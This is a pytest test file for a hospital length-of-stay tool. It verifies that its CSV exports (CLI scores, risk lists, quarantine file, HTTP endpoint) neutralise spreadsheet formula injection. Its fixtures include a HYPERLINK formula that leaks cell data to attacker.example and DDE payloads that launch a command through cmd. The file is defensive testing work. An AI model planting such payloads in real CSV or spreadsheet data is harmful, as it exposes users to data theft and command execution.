"""Hostile cell values: no CSV the product writes can carry a spreadsheet formula.

OWASP's CSV-injection rule: a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return
is written with a `'` in front, so a spreadsheet shows it instead of running it; numbers stay
numbers. Checked as a property over arbitrary text through the shared writer, then on every
real CSV path: `los score`, `los risk-list`, the quarantine file and `/v1/risk-list?format=csv`
from a real server on 127.0.0.1.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from cli.app import app
from features.export import csv_text
from features.load import load_admissions, write_frame
from tests.conftest import TrainedRegistry
from tests.factories import admission, frame
from tests.integration.test_service_server import Server, json_rows, server_env, start_server

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "spell_id": HYPERLINK,
    "patient_id": "-2+3+cmd|' /C calc'!A0",
    "ward": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def cells(text: str) -> list[list[str]]:
    """Every row of a CSV text, read as a spreadsheet would split it."""
    return list(csv.reader(io.StringIO(text, newline="")))


def defused(value: str) -> str:
    """What a text cell must read back as."""
    risky = value.startswith(DANGEROUS) and not PLAIN_NUMBER.fullmatch(value)
    return "'" + value if risky else value


def assert_no_formula(text: str) -> None:
    """No cell (header included) starts a formula; a leading sign only on a plain number."""
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(DANGEROUS) or PLAIN_NUMBER.fullmatch(cell), repr(cell)


# Text that often starts with a dangerous character, or a near miss (space, quote, full width).
starts = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", " =", "'", "＝", "-1", "+2"])
text_cells = st.one_of(st.none(), st.tuples(starts, st.text()).map("".join))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    values=st.lists(text_cells, min_size=1, max_size=6),
    numbers=st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=6, max_size=6),
    name=st.tuples(starts, st.text(max_size=5)).map("".join),
    kind=st.sampled_from(["str", "object", "category"]),
)
def test_no_text_cell_written_starts_a_formula(
    values: list[str | None], numbers: list[float], name: str, kind: str
) -> None:
    assume(name not in ("number", "count"))
    n = len(values)
    column = pd.Categorical(values) if kind == "category" else pd.Series(values, dtype=kind)
    table = pd.DataFrame({name: column, "number": numbers[:n], "count": [-7] * n})
    original = table.copy()
    with tempfile.TemporaryDirectory() as tmp:
        path = write_frame(table, Path(tmp) / "out.csv")
        text = path.read_bytes().decode("utf-8")
    pd.testing.assert_frame_equal(table, original)  # the caller's frame is not changed
    assert text == csv_text(table)  # one rule for files and HTTP bodies
    assert_no_formula(text)
    header, *rows = cells(text)
    assert header == [defused(name), "number", "count"]
    assert len(rows) == n  # a line break inside a cell never starts a new row
    for row, value, number in zip(rows, values, numbers[:n], strict=True):
        assert row[0] == ("" if value is None else defused(value))
        assert float(row[1]) == number and not row[1].startswith("'")  # numbers stay numbers
        assert row[2] == "-7"


@pytest.mark.parametrize("cell", ["x\r=1+1", "\r=1+1", "x\r@SUM(A1)"])
def test_a_line_break_cannot_smuggle_a_formula_into_a_new_row(cell: str) -> None:
    """A bare CR was written unquoted with LF line ends, and readers split the row at it."""
    rows = cells(csv_text(pd.DataFrame({"ward": [cell], "n": [1]})))
    assert rows == [["ward", "n"], [defused(cell), "1"]]


def test_parquet_is_written_as_it_is(tmp_path: Path) -> None:
    """Only spreadsheet formats are defused: Parquet keeps the exact values."""
    table = pd.DataFrame({"spell_id": [HYPERLINK, "-x"]})
    back = pd.read_parquet(write_frame(table, tmp_path / "t.parquet"))
    assert back["spell_id"].tolist() == [HYPERLINK, "-x"]


def test_the_quarantine_file_is_defused(tmp_path: Path) -> None:
    """The quarantine names each bad row's spell and echoes the bad value: both defused."""
    source = tmp_path / "admissions.csv"
    rows = frame(
        admission(spell_id="S-GOOD"),
        admission(spell_id=HYPERLINK, age=-5),  # out of range; -5 is a number, kept as it is
        admission(spell_id="@S3", sex="=1+1"),  # not in the code list
    )
    rows.to_csv(source, index=False)
    quarantine = tmp_path / "quarantine.csv"
    load_admissions(str(source), quarantine_to=quarantine, max_bad_share=1.0)
    text = quarantine.read_bytes().decode("utf-8")
    assert_no_formula(text)
    table = pd.read_csv(quarantine, dtype=str, keep_default_na=False)
    assert set(table["spell_id"]) == {"'" + HYPERLINK, "'@S3"}
    assert set(table["value"]) >= {"'=1+1"}
    assert any(v.startswith("-5") for v in table["value"])  # a negative number is not text


@pytest.fixture(scope="module")
def hostile_extract(
    trained_registry: TrainedRegistry, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """60 generated spells, the last 10 in hospital, one of them with hostile text fields."""
    table = trained_registry.admissions.sort_values("admission_datetime").tail(60).copy()
    table = table.reset_index(drop=True)
    table["discharge_datetime"] = table["discharge_datetime"].astype(object)
    table.loc[table.index[-10:], "discharge_datetime"] = None
    for column, value in HOSTILE.items():
        table[column] = table[column].astype(object)
        table.loc[table.index[-1], column] = value
    path = tmp_path_factory.mktemp("hostile_outputs") / "extract.csv"
    table.to_csv(path, index=False)
    return path


def _run(args: list[str], trained_registry: TrainedRegistry) -> None:
    done = CliRunner().invoke(app, args, env=trained_registry.env)
    assert done.exit_code == 0, done.output


def test_los_score_csv_is_defused(
    trained_registry: TrainedRegistry, hostile_extract: Path, tmp_path: Path
) -> None:
    out = tmp_path / "scores.csv"
    _run(["score", "--data", str(hostile_extract), "--out", str(out)], trained_registry)
    text = out.read_text(encoding="utf-8")
    assert_no_formula(text)
    scores = pd.read_csv(out, dtype={"spell_id": str})
    assert scores["spell_id"].iloc[-1] == "'" + HYPERLINK
    assert scores["long_stay_probability"].between(0, 1).all()  # still numbers


def test_los_risk_list_csv_is_defused(
    trained_registry: TrainedRegistry, hostile_extract: Path, tmp_path: Path
) -> None:
    out = tmp_path / "list.csv"
    _run(["risk-list", "--data", str(hostile_extract), "--out", str(out)], trained_registry)
    text = out.read_text(encoding="utf-8")
    assert_no_formula(text)
    listed = pd.read_csv(out, dtype=str, keep_default_na=False)
    hostile = listed.loc[listed["spell_id"] == "'" + HYPERLINK].iloc[0]
    assert hostile["patient_id"] == "'" + HOSTILE["patient_id"]
    assert hostile["ward"] == "'" + HOSTILE["ward"]
    assert pd.to_numeric(listed["combined_risk"]).between(0, 1).all()


@pytest.fixture(scope="module")
def server(
    trained_registry: TrainedRegistry, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    """A real `los serve` on 127.0.0.1 (no key) on the trained registry."""
    tmp = tmp_path_factory.mktemp("hostile_server")
    env = server_env(trained_registry.env, audit_url=f"sqlite:///{tmp / 'audit.db'}")
    running = start_server(env, tmp / "server.log")
    try:
        running.wait_ready()
        yield running
    finally:
        running.stop()


def test_api_risk_list_csv_is_defused(server: Server, trained_registry: TrainedRegistry) -> None:
    sample = trained_registry.admissions.sample(12, random_state=5).reset_index(drop=True)
    census: list[dict[str, Any]] = json_rows(sample)
    census[0] = {**census[0], **HOSTILE}
    with httpx.Client(base_url=server.url, timeout=60) as client:
        r = client.post("/v1/risk-list", params={"format": "csv"}, json={"admissions": census})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert_no_formula(r.text)
    listed = pd.read_csv(io.StringIO(r.text), dtype=str, keep_default_na=False)
    hostile = listed.loc[listed["spell_id"] == "'" + HYPERLINK].iloc[0]
    assert hostile["patient_id"] == "'" + HOSTILE["patient_id"]
    assert hostile["ward"] == "'" + HOSTILE["ward"]
    assert pd.to_numeric(listed["combined_risk"]).between(0, 1).all()
